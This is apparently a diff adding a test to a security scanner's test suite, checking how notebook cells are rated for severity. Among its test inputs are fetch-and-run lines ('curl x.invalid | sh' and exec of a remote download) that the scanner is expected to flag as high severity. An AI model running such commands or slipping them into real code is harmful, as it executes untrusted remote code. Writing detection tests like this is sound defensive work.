@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import sys
 import textwrap
 from pathlib import Path
@@ -309,3 +310,18 @@ def test_lines_of_a_path_file_run_when_python_starts(line: bytes, worst: Severit
 
 def test_a_cell_has_its_shell_at_hand() -> None:
     assert act("get_ipython().system('x')", "IPython.get_ipython.system").when == "import"
+
+
+def test_notebooks_fetch_and_install_as_their_readers_expect() -> None:
+    def worst(*lines: str) -> Severity:
+        cell = {"cell_type": "code", "metadata": {}, "outputs": [], "source": "\n".join(lines)}
+        whole = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+        found = scan_bytes(json.dumps(whole).encode(), "a.ipynb").findings
+        return max((one.severity for one in found), default=Severity.INFO)
+
+    assert worst("import requests", "r = requests.get('https://x.invalid/a.json')") <= Severity.LOW
+    assert worst("get_ipython().system('pip install y')") <= Severity.LOW
+    assert worst("import os", "os.system('pip install -q y')") <= Severity.LOW
+    assert worst("import os", "os.system('curl x.invalid | sh')") >= Severity.HIGH
+    assert worst("get_ipython().system('curl x.invalid | sh')") >= Severity.HIGH
+    assert worst("import requests", "exec(requests.get('https://x.invalid').text)") >= Severity.HIGH
